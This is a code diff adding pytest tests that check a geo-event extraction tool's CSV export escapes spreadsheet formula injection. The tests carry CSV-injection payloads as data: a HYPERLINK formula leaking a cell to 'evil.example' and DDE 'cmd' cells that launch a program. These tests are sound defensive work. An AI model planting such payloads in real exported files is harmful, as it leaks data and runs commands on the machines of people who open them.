@@ -180,3 +180,71 @@ def test_geopackage_of_events_opens_with_every_event(seed_records, tmp_path):
         round(events[0].lon, 5),
         round(events[0].lat, 5),
     )
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), one per way of starting one.
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # full-width equals sign
+]
+#: Columns that hold numbers or flags the writer makes itself, never text from an article.
+NUMERIC_COLUMNS = {"latitude", "longitude", "time_precision", "geo_precision", "start", "end", "corroboration"}
+
+
+def _hostile(record, value: str):
+    """The record with every text field (article text, title, outlet, url, ids, names) set to ``value``."""
+    from dataclasses import fields, replace
+
+    keep = {"date_precision"}  # a code the writer reads, not text from an article
+    texts = {f.name: value for f in fields(record) if "str" in str(f.type) and f.name not in keep}
+    return replace(record, **texts, lat=-33.5, lon=36.25, date_precision="day")
+
+
+def _assert_no_formula(rows: list[dict]) -> None:
+    for row in rows:
+        for col, cell in row.items():
+            if col in NUMERIC_COLUMNS or not cell:
+                continue
+            assert cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20", (col, cell)
+
+
+@pytest.mark.parametrize("value", HOSTILE_CELLS)
+def test_csv_neutralises_formulas_in_every_text_column(seed_records, value):
+    rec = _hostile(next(r for r in seed_records if r.is_event and r.resolved), value)
+    (row,) = _csv_rows([rec])
+    _assert_no_formula([row])
+    assert row["notes"] == row["doc_id"] == row["url"] == row["source"] == row["surface"] == "'" + value
+    # numbers stay numbers, minus sign and all
+    assert (row["latitude"], row["longitude"], row["start"]) == ("-33.5", "36.25", str(rec.start))
+    events = _csv_rows(merge_events([rec]))
+    _assert_no_formula(events)
+    assert events[0]["notes"] == events[0]["source"] == "'" + value
+
+
+def test_csv_leaves_ordinary_text_alone(seed_records):
+    rec = _hostile(seed_records[0], "Clashes in Midan - activists")
+    (row,) = _csv_rows([rec])
+    assert row["notes"] == row["source"] == "Clashes in Midan - activists"
+
+
+def test_cli_csv_neutralises_a_hostile_article(tmp_path):
+    from geo.tools.cli import main
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a.txt").write_text("=1+1 Clashes erupted in Tadamon on Monday.\n", encoding="utf-8")
+    meta = {"title": "@SUM(1)", "outlet": "+cmd|' /C calc'!A0", "url": "-1+1", "published": "2012-07-17"}
+    (folder / "a.meta.json").write_text(json.dumps(meta), encoding="utf-8")
+    out = tmp_path / "out.csv"
+    for level in ("mentions", "events"):
+        assert main(["extract", str(folder), "--level", level, "--format", "csv", "-o", str(out), "-q"]) == 0
+        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+        assert rows and rows[0]["source"] == "'+cmd|' /C calc'!A0"
+        _assert_no_formula(rows)
+        if level == "mentions":
+            assert rows[0]["url"] == "'-1+1" and rows[0]["notes"].startswith("'=1+1")
